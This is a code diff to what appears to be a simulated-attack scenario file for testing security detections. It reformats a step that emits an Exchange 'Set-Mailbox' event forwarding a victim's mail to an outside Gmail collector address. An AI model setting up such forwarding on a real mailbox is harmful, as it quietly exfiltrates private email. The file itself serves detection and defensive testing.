@@ -10,11 +10,17 @@ export const mailboxForwarding: Attack = {
     never: ['exchange.suspicious-inbox-rule', 'exchange.many-mailboxes-forward-to-one'],
   },
   script: ({ victim, start, pen, mailboxOf }) => [
-    cmdlet(pen, start, 'Set-Mailbox', { user: victim.user, id: victim.id, ip: attacker.ip, type: 0 }, {
-      Identity: victim.user,
-      ForwardingSmtpAddress: 'smtp:collector.8812@gmail.com',
-      DeliverToMailboxAndForward: 'True',
-    }),
+    cmdlet(
+      pen,
+      start,
+      'Set-Mailbox',
+      { user: victim.user, id: victim.id, ip: attacker.ip, type: 0 },
+      {
+        Identity: victim.user,
+        ForwardingSmtpAddress: 'smtp:collector.8812@gmail.com',
+        DeliverToMailboxAndForward: 'True',
+      },
+    ),
     {
       at: start,
       effect: {
